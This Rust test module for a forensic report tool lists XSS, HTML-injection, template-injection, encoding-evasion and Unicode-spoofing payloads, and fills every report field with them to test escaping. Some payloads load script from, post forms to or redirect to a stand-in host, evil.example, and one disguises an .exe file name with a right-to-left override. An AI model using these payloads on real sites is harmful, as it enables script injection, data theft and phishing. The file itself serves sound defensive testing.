//! Text that a hostile file can hold, and a report that holds it everywhere.

use saboot_core::{Damage, Untrusted};
use saboot_report::Report;

/// Markup, attributes, style, templates, encodings, control and reading-order characters.
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/p.png\">",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=\"data:,alert(1)\"/></svg>",
    "</svg><svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"https://evil.example/\"></object>",
    "<embed src=//evil.example>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<form action=https://evil.example><button>send</button></form>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=https://evil.example>your court file</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "`onmouseover=alert(1)",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{ r.settings }}",
    "{% include 'report.html' %}",
    "{{ ''|safe }}{# comment #}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{feff}<script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}",
    "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}[2J\u{9b}31m",
    "line one\r\nline two\u{85}three\u{2028}four\u{2029}\u{b}\u{c}\u{8}\u{7f}",
    "\u{e0041}\u{e007f}\u{fff9}\u{ad}\u{180e}\u{2060}",
    "＜script＞alert(1)＜/script＞",
    "\u{fdd0}\u{ffff}\u{10ffff}<\u{301}script>",
];

/// Puts a text wherever the contents or the name of a file, or a damaged worker's reply, can put one.
pub fn filled(text: &str) -> Report {
    let mut report = super::full();
    let foreign = || Untrusted::from(text);
    report.path = foreign();
    report.refusal = foreign();
    if let Some(exhibit) = &mut report.exhibit {
        exhibit.path = foreign();
        exhibit.members.iter_mut().for_each(|m| m.path = foreign());
    }
    let examination = report.examination.as_mut().unwrap();
    examination.streams.others = vec![foreign(), foreign()];
    for property in &mut examination.properties {
        (property.name, property.value) = (foreign(), foreign());
    }
    for finding in &mut examination.findings {
        finding.observed = foreign();
        finding.statement = text.to_owned();
    }
    for path in &mut examination.paths {
        (path.words, path.words_hindi) = (text.to_owned(), text.to_owned());
        path.steps.iter_mut().for_each(|s| s.by = foreign());
    }
    for damage in &mut examination.damage {
        *damage = Damage { place: foreign(), detail: foreign(), ..damage.clone() };
    }
    examination.models.iter_mut().for_each(|m| m.hint = text.to_owned());
    examination.properties.iter_mut().for_each(|p| p.section = text.to_owned());
    report.enclosed_in.as_mut().unwrap().path = foreign();
    let custody = report.time.custody.as_mut().unwrap();
    custody.case = foreign();
    for entry in &mut custody.entries {
        (entry.text, entry.by) = (foreign(), foreign());
    }
    for card in &mut report.cards {
        for field in [&mut card.version, &mut card.title, &mut card.summary, &mut card.licence] {
            *field = text.to_owned();
        }
        (card.training_data, card.limits) = (text.to_owned(), text.to_owned());
        card.fools_it = vec![text.to_owned()];
        card.hindi = None;
        card.measured.iter_mut().for_each(|m| (m.set, m.condition) = (text.to_owned(), text.to_owned()));
        card.calibration.iter_mut().for_each(|c| c.fitted_on = text.to_owned());
    }
    let rows = report.validation.iter_mut().flat_map(|v| &mut v.rows);
    rows.flat_map(|r| &mut r.mix).for_each(|m| m.value = text.to_owned());
    report.environment.machine = text.to_owned();
    report.environment.isolation = text.to_owned();
    report.environment.libraries = vec![text.to_owned(), text.to_owned()];
    report.settings = serde_json::json!({ "trust": text });
    report
}

/// Characters that can act, hide or reorder.
pub fn hostile(c: char) -> bool {
    matches!(u32::from(c), 0..=9 | 0xb..=0x1f | 0x7f..=0x9f | 0xad | 0x61c | 0x180e | 0x200b | 0x200e | 0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff | 0xfff9..=0xfffb | 0xe0000..=0xe007f)
}
